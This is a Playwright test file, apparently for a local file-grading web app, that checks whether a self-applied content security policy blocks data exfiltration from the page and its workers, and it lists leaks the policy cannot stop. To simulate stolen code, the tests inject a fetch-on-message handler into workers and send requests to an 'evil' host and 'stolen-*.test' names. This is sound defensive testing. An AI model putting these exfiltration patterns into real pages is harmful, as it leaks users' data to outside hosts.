// Attempts to send data away, from the page and from its workers, before and after the lock. An attempt counts only if the
// same code does arrive from a page without a policy; that page comes last, so that by the time its attempts have arrived
// the others would have, too. The page under attack comes from a host without headers: its own policy is all it has.
import { expect, type BrowserContext, type Page } from '@playwright/test';
import { CODE, NAMES, Target, codeThatRan, controlPage, runTexts, type Realm } from './support/attacks';
import { Fenji } from './support/fenji';
import { openHost, pageHost, quietHost, type Host } from './support/hosts';
import { test } from './support/profile';
import { UCI } from './support/tables';

const REALMS: Realm[] = ['page', 'worker'];

/** Attempts that arrive from no page at all, with this browser; should one of them arrive elsewhere, it counts there. */
const NEVER = {
  'svg in a data image': 'a picture loads nothing', 'report of a policy': 'a policy in the page cannot name a report address',
  'media session artwork': 'nothing plays', 'shared storage worklet': 'not in this browser', 'fenced frame': 'not in this browser',
  'attribution source': 'not in this browser', 'link prerender': 'not in this browser',
};
const SAME_ORIGIN_ONLY = ['worker of a URL', 'module worker of a URL', 'URL worker in a worker', 'SharedWorker of a URL', 'ServiceWorker',
  'svg use', 'css filter', 'css backdrop filter', 'canvas filter'];

/** Opens the page and waits until nothing more is on its way. */
async function opened(context: BrowserContext, host: Host) {
  const fenji = new Fenji(await context.newPage());
  await fenji.open(host.url);
  await fenji.page.evaluate(() => (globalThis as any).fenji.secondWave);
  return fenji;
}

/** The page with a graded file. */
async function graded(context: BrowserContext, host: Host) {
  const fenji = await opened(context, host);
  await fenji.grade(...UCI);
  await expect(fenji.page.locator('html')).toHaveAttribute('data-locked', 'true');
  return fenji.page;
}

/** Waits for all attempts of a page without a policy, but those that never arrive; gives which did and tells about all. */
async function arrived(control: Target, realm: Realm, silent: string[], stopped: (name: string) => boolean) {
  await expect.poll(() => NAMES[realm].filter((name) => !control.reached(name) && !silent.includes(name)),
    { message: 'attempts that no longer arrive without a policy', timeout: 30_000 }).toEqual([]);
  const fired = NAMES[realm].filter((name) => control.reached(name));
  const verdict = (name: string) => (!fired.includes(name) ? 'control silent, not counted' : stopped(name) ? 'stopped' : 'NOT STOPPED');
  console.log([`  ${realm}: ${fired.filter(stopped).length} of ${fired.length} stopped`, ...NAMES[realm].map((name) => `${name.padEnd(44)} ${verdict(name)}`)].join('\n    '));
  return fired;
}

for (const realm of REALMS) {
  test(`to another host, from the ${realm}: everything is stopped, before and after the lock`, async ({ profile: { context } }) => {
    const [site, free] = [await pageHost(), await openHost()];
    const before = await Target.at(await openHost(), realm);
    const after = await Target.at(await openHost(), realm);
    const control = await Target.at(await openHost(), realm);
    const { page } = await opened(context, site);
    const locked = await graded(context, site);
    await before.attack(page);
    await after.attack(locked);
    await control.attack(await controlPage(context, free));
    const fired = await arrived(control, realm, [...Object.keys(NEVER), ...SAME_ORIGIN_ONLY], (name) => !before.reached(name) && !after.reached(name));
    expect(fired.length).toBeGreaterThan(realm === 'page' ? 120 : 30);
    expect(fired.filter((name) => before.reached(name)), 'before the lock').toEqual([]);
    expect(fired.filter((name) => after.reached(name)), 'after the lock').toEqual([]);
    // Nor did anything arrive that no name stands for.
    expect([...before.host.hits, ...after.host.hits].map(({ path }) => path)).toEqual([]);
    expect([before.quiet, after.quiet].map(({ sockets, packets }) => sockets + packets)).toEqual([0, 0]);
    expect(control.quiet.packets).toBeGreaterThan(0);
  });

  test(`to the page’s own host, from the ${realm}: everything is stopped after the lock`, async ({ profile: { context } }) => {
    const site = await pageHost();
    const own = await openHost();
    const earlier = await Target.at(await pageHost(), realm);
    const locked = await graded(context, site);
    site.hits.length = 0;
    const after = await Target.at(site, realm);
    const control = await Target.at(own, realm);
    // A second control: what the lock stops is possible before it.
    await earlier.attack((await opened(context, earlier.host)).page, ['fetch', 'XMLHttpRequest POST']);
    await after.attack(locked);
    await control.attack(await controlPage(context, own));
    await arrived(control, realm, Object.keys(NEVER), (name) => !after.reached(name));
    expect(earlier.reached('fetch') && earlier.reached('XMLHttpRequest POST')).toBe(true);
    expect(site.hits.map(({ path }) => path), 'requests to the own host after the lock').toEqual([]);
    expect(after.quiet.packets).toBe(0);
  });

  test(`text does not become code in the ${realm}, before and after the lock`, async ({ profile: { context } }) => {
    const site = await pageHost();
    const before = (await opened(context, site)).page;
    const locked = await graded(context, site);
    const control = await controlPage(context, await openHost());
    for (const page of [before, locked, control]) await runTexts(page, realm);
    await expect.poll(() => codeThatRan(control), 'control').toEqual([...CODE[realm]].sort());
    expect(await codeThatRan(before), 'before the lock').toEqual([]);
    expect(await codeThatRan(locked), 'after the lock').toEqual([]);
  });
}

test('no worker the page itself made can ask any host, its own included', async ({ profile: { context } }) => {
  const site = await pageHost();
  const evil = await openHost();
  const page = await context.newPage();
  // The page's workers get one line more, with which they can be told to do what stolen code would.
  await page.addInitScript(() => {
    const line = `self.addEventListener('message', async (event) => {
      if (!event.data?.steal) return;
      event.stopImmediatePropagation();
      const said = await Promise.all(event.data.steal.map((url) => fetch(url, { mode: 'no-cors' }).then(() => 'reached', () => 'refused')));
      event.ports[0].postMessage(said);
    });\n`;
    const workers: Worker[] = (window as any).ownWorkers = [];
    const Plain = { Blob, Worker };
    window.Blob = class extends Plain.Blob {
      constructor(parts?: BlobPart[], options?: BlobPropertyBag) { super(options?.type === 'text/javascript' ? [line, ...parts!] : parts, options); }
    };
    window.Worker = class extends Plain.Worker {
      constructor(url: string | URL, options?: WorkerOptions) { super(url, options); workers.push(this); }
      terminate() { workers.splice(workers.indexOf(this), 1); super.terminate(); }
    };
  });
  const steal = (urls: string[]) => page.evaluate((urls) => Promise.all((window as any).ownWorkers.map((worker: Worker) => new Promise((resolve) => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = ({ data }) => resolve(data);
    worker.postMessage({ steal: urls }, [port2]);
  }))), urls);
  const fenji = new Fenji(page);
  await fenji.open(site.url);
  await page.evaluate(() => (globalThis as any).fenji.secondWave);
  await fenji.grade(...UCI);
  await fenji.row(0).click();
  await expect(fenji.at('reason').first()).toBeVisible();
  // Also with the next analysis under way.
  await page.keyboard.press('Escape');
  await fenji.go('collect');
  site.hits.length = 0;
  const answers = await steal([`${evil.url}stolen`, `${site.url}stolen`]) as string[][];
  expect(answers.length).toBeGreaterThan(0);
  expect(answers.flat().filter((answer) => answer !== 'refused')).toEqual([]);
  expect([...site.hits, ...evil.hits]).toEqual([]);
  await fenji.start();
  await fenji.graded();
  expect((await steal([`${site.url}stolen`]) as string[][]).flat().filter((answer) => answer !== 'refused')).toEqual([]);
  expect(site.hits).toEqual([]);
});

test('what was made before the lock keeps the policy of then: other hosts stay shut, the own one does not', async ({ profile: { context } }) => {
  // A known limit of a policy that comes late, and why the page has no frames and throws its early worker away.
  const [site, evil] = [await pageHost(), await openHost()];
  const { page } = await opened(context, site);
  await page.evaluate(() => {
    const text = 'onmessage = ({ data }) => fetch(data, { mode: "no-cors" }).then(() => postMessage("reached"), () => postMessage("refused"))';
    Object.assign(window, { early: { frame: document.body.appendChild(document.createElement('iframe')), worker: new Worker(URL.createObjectURL(new Blob([text]))) } });
  });
  await page.evaluate(() => (globalThis as any).fenji.lock());
  const attempt = (url: string) => page.evaluate(async (url) => {
    const { frame, worker } = (window as any).early;
    worker.postMessage(url);
    return Promise.all([
      fetch(url).then(() => 'reached', () => 'refused'),
      frame.contentWindow.fetch(url, { mode: 'no-cors' }).then(() => 'reached', () => 'refused'),
      new Promise((resolve) => { worker.onmessage = ({ data }: MessageEvent) => resolve(data); }),
    ]);
  }, url);
  expect(await attempt(`${evil.url}stolen`)).toEqual(['refused', 'refused', 'refused']);
  expect(evil.hits).toEqual([]);
  expect(await attempt(`${site.url}stolen`)).toEqual(['refused', 'reached', 'reached']);
});

// --- What no policy in a page can stop ---------------------------------------------------------------------------
// Taking the page, or a new window, to an address; opening a connection; looking up a name. The privacy page must list
// these. A host that sends our _headers stops all of them but a visit to itself.
const ALONE: Record<string, 'policy' | 'header, but for the own host' | 'header'> = {
  'speculation rules, prefetch': 'policy',
  'speculation rules, prerender': 'policy',
  'location =': 'header, but for the own host',
  'location.replace': 'header, but for the own host',
  'navigation.navigate': 'header, but for the own host',
  'a click': 'header, but for the own host',
  'a click, new tab': 'header, but for the own host',
  'a download': 'header, but for the own host',
  'window.open': 'header, but for the own host',
  'window.open noopener': 'header, but for the own host',
  'location of a popup': 'header, but for the own host',
  'refresh in a popup': 'header, but for the own host',
  'opener of a popup': 'header, but for the own host',
  'svg link': 'header, but for the own host',
  'document.open of a refresh': 'header, but for the own host',
  'meta refresh': 'header, but for the own host',
  'blob page that goes on': 'header, but for the own host',
  'link preconnect (connection)': 'header',
  'WebRTC (packet)': 'header',
  'WebRTC over TCP (connection)': 'header',
};

test('every attempt that needs a page of its own has its verdict here', () => {
  expect(Object.keys(ALONE).sort()).toEqual([...NAMES.alone].sort());
});

for (const [name, verdict] of Object.entries(ALONE)) {
  test(`after the lock, ${name}: stopped by ${verdict}`, async ({ profile: { context } }, info) => {
    info.annotations.push({ type: verdict === 'policy' ? 'stopped by the page' : 'known gap without headers', description: name });
    const bare = await pageHost();
    const full = await pageHost({ headers: true });
    const locked = async (host: Host) => {
      const { page } = await opened(context, host);
      await page.evaluate(() => (globalThis as any).fenji.lock());
      await expect(page.locator('html')).toHaveAttribute('data-locked', 'true');
      return page;
    };
    // Some of these leave the page before the call that started them has returned.
    const attack = async (page: Page, target: Target) => target.attack(page, [name]).catch((error) => {
      if (!/context was destroyed/.test(String(error))) throw error;
    });
    const withHeader = await Target.at(await openHost(), 'alone');
    const withoutHeader = await Target.at(await openHost(), 'alone');
    const ownHost = await Target.at(full, 'alone');
    const control = await Target.at(await openHost(), 'alone');
    await attack(await locked(full), withHeader);
    await attack(await locked(bare), withoutHeader);
    await attack(await locked(full), ownHost);
    await attack(await controlPage(context, await openHost()), control);
    await expect.poll(() => control.reached(name), 'control').toBe(true);
    // What is expected to arrive may need a moment more; what is not has had at least the control's time.
    if (verdict !== 'policy') await expect.poll(() => withoutHeader.reached(name), 'a host without headers').toBe(true);
    if (verdict === 'header, but for the own host') await expect.poll(() => ownHost.reached(name), 'a visit to the own host').toBe(true);
    expect({ withHeader: withHeader.reached(name), withoutHeader: withoutHeader.reached(name), ownHost: ownHost.reached(name) }).toEqual({
      withHeader: false, withoutHeader: verdict !== 'policy', ownHost: verdict === 'header, but for the own host',
    });
  });
}

test.describe('names looked up', () => {
  test.use({ logged: true });

  test('dns-prefetch and preconnect look up a name: stopped by the header alone', async ({ profile: { context, netLog } }) => {
    const lookUp = async (page: Page, label: string) => page.evaluate((label) => {
      for (const rel of ['dns-prefetch', 'preconnect']) {
        document.head.append(Object.assign(document.createElement('link'), { rel, href: `http://stolen-${rel}-${label}.test/` }));
      }
    }, label);
    await lookUp(await graded(context, await pageHost({ headers: true })), 'headers');
    await lookUp(await graded(context, await pageHost()), 'bare');
    const page = await controlPage(context, await openHost());
    await lookUp(page, 'control');
    // The control's own connection comes last: when it arrives, the look-ups have begun.
    const quiet = await quietHost();
    await page.evaluate((address) => document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://${address}/` })), quiet.address);
    await expect.poll(() => quiet.sockets).toBeGreaterThan(0);
    const names = new Set((await netLog()).match(/stolen-[a-z-]+(?=\.test)/g));
    expect([...names].sort()).toEqual(['bare', 'control'].flatMap((label) => [`stolen-dns-prefetch-${label}`, `stolen-preconnect-${label}`]).sort());
  });
});

test('another site’s window: framing, and speaking with who opened the page, need a host without headers', async ({ profile: { context } }) => {
  const other = await openHost();
  for (const headers of [false, true]) {
    const site = await pageHost({ headers });
    const page = await controlPage(context, other);
    await page.evaluate(() => { const heard: string[] = (window as any).heard = []; addEventListener('message', ({ data }) => heard.push(data)); });
    const heard = () => page.evaluate(() => (window as any).heard);
    const frame = await page.evaluateHandle((url) => new Promise<HTMLIFrameElement>((resolve) => {
      const made = Object.assign(document.createElement('iframe'), { src: url });
      made.onload = () => resolve(made);
      document.body.append(made);
    }), site.url);
    // Spoken first, so that the opened window's word, when it comes, tells that this one would have come.
    const inner = (await frame.asElement()!.contentFrame())!;
    await inner.evaluate(() => { if ((globalThis as any).fenji || document.getElementById('boot')) parent.postMessage('from a frame', '*'); });
    const [popup] = await Promise.all([context.waitForEvent('page'), page.evaluate((url) => { open(url); }, site.url)]);
    await expect(popup.locator('#boot')).toHaveCount(0);
    await popup.evaluate(async () => { await (globalThis as any).fenji.lock(); opener?.postMessage('from the opened page', '*'); });
    if (headers) expect(await popup.evaluate(() => opener), 'the opener is cut off').toBeNull();
    else await expect.poll(heard).toContain('from the opened page');
    expect(await heard()).toEqual(headers ? [] : ['from a frame', 'from the opened page']);
    await popup.close();
  }
});
